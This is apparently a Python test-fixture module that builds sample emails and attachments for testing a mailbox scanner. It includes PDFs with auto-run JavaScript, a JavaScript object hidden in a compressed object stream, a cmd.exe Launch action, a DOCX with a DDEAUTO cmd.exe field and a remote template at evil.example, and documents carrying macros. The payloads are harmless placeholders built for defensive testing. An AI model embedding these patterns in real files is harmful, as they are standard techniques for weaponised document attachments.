"""Small files and emails for the mailbox and attachment tests, built here so every byte is known.

PDFs are written by hand (a few objects and a cross-reference table), including one whose JavaScript is packed
in a compressed object stream, where no plain search of the bytes can see it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00"
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01" + b"\x00" * 64

_PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]


def pdf(catalog_extra: bytes = b"", *more: bytes) -> bytes:
    """A one-page PDF; ``catalog_extra`` goes in the catalog, ``more`` are objects 4, 5, ..."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", *_PAGES, *more]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


PLAIN_PDF = pdf()
PDF_WITH_JAVASCRIPT = pdf(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>")
PDF_WITH_ESCAPED_JAVASCRIPT = pdf(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /JS (app.alert(1)) >>")
PDF_THAT_LAUNCHES = pdf(b"/OpenAction 4 0 R", b"<< /S /Launch /F (cmd.exe) >>")


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """JavaScript in object 5, inside a FlateDecode object stream (4), found through a cross-reference stream (6)."""
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + hidden)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        *_PAGES,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed),
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, o, 0) for o in offsets]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, xref_offset, 0)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return out


def _zip(members: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for i, (name, data) in enumerate(members):
            method = zipfile.ZIP_STORED if stored_first and i == 0 else zipfile.ZIP_DEFLATED
            zf.writestr(name, data, compress_type=method)
    return buffer.getvalue()


_DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
_DOCUMENT = b'<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>My letter</w:t></w:r></w:p></w:body></w:document>'


def docx(*, extra: list[tuple[str, bytes]] = (), document: bytes = _DOCUMENT, types: bytes = _DOCX_TYPES) -> bytes:
    return _zip([("[Content_Types].xml", types), ("word/document.xml", document), *extra])


DOCX = docx()
DOCX_WITH_MACROS = docx(
    extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64)],
    types=_DOCX_TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml"),
)
DOCX_WITH_DDE = docx(
    document=_DOCUMENT.replace(
        b"<w:t>My letter</w:t>", b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText>'
    )
)
DOCX_WITH_REMOTE_TEMPLATE = docx(
    extra=[
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>",
        )
    ]
)
DOCX_WITH_A_LINK = docx(
    extra=[
        (
            "word/_rels/document.xml.rels",
            b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/hyperlink" Target="https://council.example/" TargetMode="External"/></Relationships>',
        )
    ]
)


def odt(*, extra: list[tuple[str, bytes]] = (), content: bytes = b"<office:document-content/>") -> bytes:
    return _zip(
        [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content), *extra],
        stored_first=True,
    )


ODT = odt()
ODT_WITH_MACROS = odt(extra=[("Basic/Standard/Module1.xml", b"<script:module>Sub Main</script:module>")])
ODT_WITH_EVENT_SCRIPT = odt(content=b'<office:document-content><script:event-listener script:language="ooo:script"/>')


def email(
    *,
    sender: str = "Sam <sam@example.org>",
    to: str = "complaints@council.example",
    subject: str = "My social worker",
    text: str | None = "My social worker never calls me back.",
    html: str | None = None,
    attachments: list[tuple[str, bytes, str]] = (),
    headers: dict[str, str] | None = None,
    message_id: str | None = "auto",
    date=None,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    if date is not None:
        msg["Date"] = format_datetime(date)
    if message_id:
        msg["Message-ID"] = make_msgid(domain="example.org") if message_id == "auto" else message_id
    for name, value in (headers or {}).items():
        msg[name] = value
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
    for filename, data, mime in attachments:
        maintype, subtype = mime.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()
